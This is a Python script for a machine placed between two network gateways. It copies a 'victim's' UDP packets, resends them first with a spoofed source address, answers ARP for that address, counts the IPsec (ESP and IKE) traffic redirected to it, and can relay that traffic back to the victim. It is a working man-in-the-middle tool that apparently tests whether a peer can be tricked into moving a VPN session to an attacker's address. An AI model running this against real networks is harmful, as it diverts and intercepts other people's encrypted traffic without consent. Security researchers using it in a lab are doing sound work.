"""A box on the path between two gateways that carries their frames, and copies: what the victim
sends to the other gateway goes out a second time with another source, ahead of the original.

    copier.py NEAR FAR VICTIM SOURCE STATISTICS [--relay]

NEAR and FAR are interfaces, the victim's gateway behind NEAR. Answers ARP for SOURCE. What comes to
SOURCE is counted, and with --relay carried on to the victim as a NAT would. The counts are written
to the file STATISTICS whenever they change.
"""

import json
import os
import select
import socket
import struct
import sys

ETH_P_ALL, PACKET_OUTGOING = 3, 4
ARP, IPV4 = b"\x08\x06", b"\x08\x00"
MARKER = bytes(4)


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def with_addresses(frame: bytes, source: bytes, target: bytes) -> bytes:
    """An IPv4 and UDP frame with other addresses. UDP may go without a checksum."""
    header = 14 + (frame[14] & 15) * 4
    ip = bytearray(frame[14:header])
    ip[12:16], ip[16:20], ip[10:12] = source, target, b"\0\0"
    ip[10:12] = struct.pack("!H", checksum(bytes(ip)))
    return frame[:14] + bytes(ip) + frame[header : header + 6] + b"\0\0" + frame[header + 8 :]


class Box:
    def __init__(
        self, near: str, far: str, victim: str, source: str, statistics: str, *, relays: bool
    ):
        self.near, self.far = self._open(near), self._open(far)
        self.victim, self.source = socket.inet_aton(victim), socket.inet_aton(source)
        self.statistics, self.relays = statistics, relays
        self.counts = {"copied": 0, "caught_esp": 0, "caught_ike": 0}
        self.mac = self.far.getsockname()[4]
        self.victim_mac = self.peer_mac = self.peer = b""

    @staticmethod
    def _open(name: str) -> socket.socket:
        opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
        opened.bind((name, ETH_P_ALL))
        return opened

    def run(self) -> None:
        self._write()
        while True:
            for ready in select.select([self.near, self.far], [], [])[0]:
                frame, address = ready.recvfrom(65536)
                if address[2] != PACKET_OUTGOING:
                    self._carry(ready, frame)

    def _carry(self, came_in: socket.socket, frame: bytes) -> None:
        if came_in is self.near:
            if self._is_from_victim(frame):
                self._count("copied")
                self.far.send(with_addresses(frame, self.source, frame[30:34]))
            self.far.send(frame)
        elif frame[12:14] == ARP and frame[38:42] == self.source:
            self._answer_arp(frame)
        elif frame[12:14] == IPV4 and frame[30:34] == self.source:
            self._catch(frame)
        else:
            self.near.send(frame)

    def _is_from_victim(self, frame: bytes) -> bool:
        if frame[12:14] != IPV4 or frame[23] != 17 or frame[26:30] != self.victim:
            return False
        self.victim_mac, self.peer, self.peer_mac = frame[6:12], frame[30:34], frame[:6]
        return True

    def _answer_arp(self, frame: bytes) -> None:
        body = frame[14:20] + b"\0\x02" + self.mac + self.source + frame[22:32]
        self.far.send(frame[6:12] + self.mac + ARP + body)

    def _catch(self, frame: bytes) -> None:
        if frame[23] != 17:
            return  # ICMP: nobody listens there yet.
        is_ike = frame[42:46] == MARKER or struct.unpack_from("!H", frame, 36)[0] == 500
        self._count("caught_ike" if is_ike else "caught_esp")
        if self.relays:
            moved = with_addresses(frame, self.peer, self.victim)
            self.near.send(self.victim_mac + self.peer_mac + moved[12:])

    def _count(self, what: str) -> None:
        self.counts[what] += 1
        self._write()

    def _write(self) -> None:
        fresh = self.statistics + ".new"
        with open(fresh, "w") as file:
            json.dump(self.counts, file)
        os.replace(fresh, self.statistics)


if __name__ == "__main__":
    Box(*sys.argv[1:6], relays="--relay" in sys.argv[6:]).run()
